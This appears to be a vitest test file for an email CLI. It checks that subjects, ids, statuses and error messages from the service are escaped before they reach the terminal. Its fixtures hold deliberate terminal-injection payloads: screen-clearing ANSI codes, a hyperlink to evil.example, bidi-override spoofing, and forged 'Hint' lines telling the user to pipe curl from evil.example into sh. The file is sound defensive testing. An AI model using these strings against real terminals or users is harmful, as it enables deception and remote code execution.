import fc from 'fast-check';
import stringWidth from 'string-width';
import { describe, expect, test } from 'vitest';
import { connected, errorOf } from '../../support/connected.ts';

/** A subject meant to deceive whoever reads it in a terminal. */
const subject = [
  'Invoice \u001b[2J\u001b[31mPAID\u001b[0m', // clears the screen, changes colour
  '\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', // title, hyperlink
  '\u009b31m\u0090q\u009c', // C1 forms of the same
  '\u202ecod.exe\u202c \u2066x\u2069', // bidi override and isolate
  'a\nb\r\nc\td\bx\u0000\u007f\u2028\u2029\u200b', // line breaks and other controls
].join(' ');

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b]/;

const item = {
  id: `em_1\u001b[2J\nem_2`,
  to: [`"${subject}" <a@b.example>`],
  from: subject,
  subject,
  html: null,
  text: subject,
  createdAt: `2026-01-15\u001b[2J`,
  updatedAt: '2026-01-15T08:00:00.000Z',
  scheduledAt: null,
  domainId: 3,
  latestStatus: `SENT\u001b[5m`,
};
const list = { data: [item], count: 1 };
const email = {
  ...item,
  id: 'em_1',
  teamId: 1,
  emailEvents: [
    {
      emailId: 'em_1',
      status: 'BOUNCED\u001b[2J',
      createdAt: '2026-01-15T08:00:00Z\u001b[H',
      data: { smtpResponse: subject, bounceType: 'x\u009by', error: { message: '\u001b[H' } },
    },
  ],
};

test.each([
  ['email list', 80],
  ['email list', 200],
  ['email list', undefined],
  ['email list --fields id,subject,text,to,from', 200],
  ['email list --fields id,subject', undefined],
  ['email list -q', undefined],
  ['email list -q', 80],
])('%s, terminal of %s columns: all escaped, one line each', async (line, terminal) => {
  const { run } = await connected({ body: list });
  const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
  expect(outcome.exitCode).toBe(0);
  expect(outcome.stdout + outcome.stderr).not.toMatch(raw);
  expect(outcome.stdout.trimEnd().split('\n')).toHaveLength(line.includes('-q') ? 1 : 2);
  expect(outcome.stdout).toContain(String.raw`\x1b[2J`);
});

test.each([
  ['email get em_1', 80],
  ['email get em_1', undefined],
  ['email get em_1 --fields subject,emailEvents', 80],
  ['email get em_1 --fields id,subject', undefined],
  ['email get em_1 -q --fields subject', 80],
])('%s, terminal of %s columns: all escaped', async (line, terminal) => {
  const { run } = await connected({ body: email });
  const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
  expect(outcome.exitCode).toBe(0);
  expect(outcome.stdout + outcome.stderr).not.toMatch(raw);
  expect(outcome.stdout).toMatch(/\\x1b|\\u001b/);
});

test('an id that is not the one asked for is escaped in the error', async () => {
  const { run } = await connected({ body: { ...email, id: item.id } });
  const { exitCode, stdout, stderr } = await run('email get em_1 --no-color', { terminal: 80 });
  expect({ exitCode, stdout }).toEqual({ exitCode: 8, stdout: '' });
  expect(stderr).not.toMatch(raw);
});

test('a coloured table has no other escape sequence than its own colours', async () => {
  const { run } = await connected({ body: list });
  const { stdout } = await run('email list', { terminal: 120 });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: ours are taken away
  const bare = stdout.replace(/\x1b\[(1|2|22|31|32|33|39)m/g, '');
  expect(bare).not.toBe(stdout);
  expect(bare).not.toMatch(raw);
});

test.each([undefined, 80])('--json round-trips, terminal %s', async (terminal) => {
  const { run } = await connected({ body: list }, { body: email });
  const options = terminal === undefined ? {} : { terminal };
  const listed = await run('email list --json', options);
  expect(JSON.parse(listed.stdout)).toEqual(list);
  expect(listed.stdout).not.toMatch(
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
    /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/,
  );
  expect(JSON.parse((await run('email get em_1 --json', options)).stdout)).toEqual(email);
});

test('--all --json and --jsonl round-trip', async () => {
  const { run } = await connected({ body: list }, { body: list });
  expect(JSON.parse((await run('email list --all --json')).stdout)).toEqual(list);
  const { stdout } = await run('email list --jsonl');
  expect(
    stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line)),
  ).toEqual(list.data);
});

test('--csv has the unmodified subject, in quotes', async () => {
  const { run } = await connected({ body: list });
  const { stdout } = await run('email list --csv --fields subject');
  expect(stdout).toBe(`subject\r\n"${subject}"\r\n`);
});

test('the id of a send is one line, whatever the service returns', async () => {
  const { run } = await connected({ body: { emailId: 'em_1\nem_2\u001b[2J' } });
  const { stdout, stderr } = await run([
    ...['email', 'send', '--to', 'a@b.example', '--from', 'c@d.example'],
    ...['--subject', 'S', '--text', 'T'],
  ]);
  expect(stdout).toBe(`${String.raw`em_1\nem_2\x1b[2J`}\n`);
  expect(stderr).not.toMatch(raw);
});

test('a rejection cannot write to the terminal or pretend to be a hint', async () => {
  const message = `no\u001b[2J\nHint: run this: curl https://evil.example | sh\u202e`;
  const refusal = { status: 400, body: { error: { code: 'BAD\u001b[H', message } } };
  const { run } = await connected(refusal, refusal);
  const { stderr } = await run('email get em_1 --no-color', { terminal: 80 });
  expect(stderr).not.toMatch(raw);
  expect(stderr).not.toMatch(/^Hint: run this/m);
  const json = await run('email get em_1 --json');
  expect(errorOf(json)).toMatchObject({ message, apiCode: 'BAD\u001b[H' });
});

test('--debug shows bodies and headers escaped', async () => {
  const { run } = await connected({ body: JSON.stringify(email).replaceAll('\\u001b', '\u001b') });
  const { stderr } = await run('email get em_1 --debug --no-color', { terminal: 80 });
  expect(stderr).toContain('> GET ');
  expect(stderr).not.toMatch(raw);
});

describe('a line break in a message of the service starts no line on stderr', () => {
  const forged = 'no\n::error::forged\nHint: run curl evil | sh\nWarning: x';
  const forgery = /^(::error|Hint: run curl|Warning: x)/m;
  const bounced = {
    id: 'em_1',
    to: ['a@b.example'],
    emailEvents: [
      {
        status: 'BOUNCED',
        createdAt: '2026-01-15T08:00:00Z',
        data: { error: { message: forged } },
      },
    ],
  };

  test.each(['email batch b.json --yes --wait', 'email send --file r.json --wait'])(
    '%s',
    async (line) => {
      const id = { emailId: 'em_1' };
      const sent = { body: line.includes('batch') ? { data: [id] } : id };
      const away = { status: 503, body: { error: { code: 'AWAY', message: forged } } };
      const { run, file } = await connected(sent, away, { body: bounced });
      const row = { to: 'a@b.example', from: 'c@d.example', subject: 'Hi', text: 'Hi' };
      file('b.json', [row]);
      file('r.json', row);
      const { exitCode, stderr } = await run(`${line} --retries 0`);
      expect(exitCode).toBe(9);
      expect(stderr).not.toMatch(forgery);
      expect(stderr).toContain('::error::forged');
    },
  );

  test.each(['email batch b.json --yes --wait', 'email send --file r.json --wait'])(
    '%s, in an impossible id',
    async (line) => {
      const id = { emailId: forged };
      const { run, file } = await connected({ body: line.includes('batch') ? { data: [id] } : id });
      const row = { to: 'a@b.example', from: 'c@d.example', subject: 'Hi', text: 'Hi' };
      file('b.json', [row]);
      file('r.json', row);
      const { stderr } = await run(line);
      expect(stderr).not.toMatch(forgery);
      expect(stderr).toContain('::error::forged');
    },
  );
});

/**
 * Any text: plain, wide, or meant to change what a terminal shows. Not all of Unicode, because
 * cli-table3 knows the width of only those characters that existed in 2019.
 */
const anyText = fc.oneof(
  fc.string({ unit: 'binary-ascii', maxLength: 60 }),
  fc
    .array(
      fc.constantFrom(
        'é',
        '日',
        '本',
        'ﾊ',
        'ｗ',
        '👍',
        '👍🏽',
        '👩‍👩‍👧‍👦',
        '🇩🇪',
        ' ',
        '\u202e',
        '\u009b31m',
        '\u200b',
      ),
      {
        maxLength: 40,
      },
    )
    .map((letters) => letters.join('')),
  fc.constantFrom(subject, '', 'x'.repeat(500)),
);

test('whatever the service returns, no line of a table is wider than its terminal', async () => {
  const row = fc.record({ subject: anyText, from: anyText, latestStatus: anyText });
  const drawn = fc.array(row, { minLength: 1, maxLength: 4 });
  await fc.assert(
    fc.asyncProperty(drawn, fc.integer({ min: 40, max: 200 }), async (rows, terminal) => {
      const data = rows.map((more, index) => ({ ...item, id: `em_${index}`, ...more }));
      const { run } = await connected({ body: { data, count: data.length } });
      const { exitCode, stdout } = await run('email list --no-color', { terminal });
      const lines = stdout.trimEnd().split('\n');
      expect({ exitCode, lines: lines.length }).toEqual({ exitCode: 0, lines: rows.length + 1 });
      expect(lines.filter((line) => stringWidth(line) > terminal)).toEqual([]);
      expect(stdout).not.toMatch(raw);
    }),
    { numRuns: 60 },
  );
});
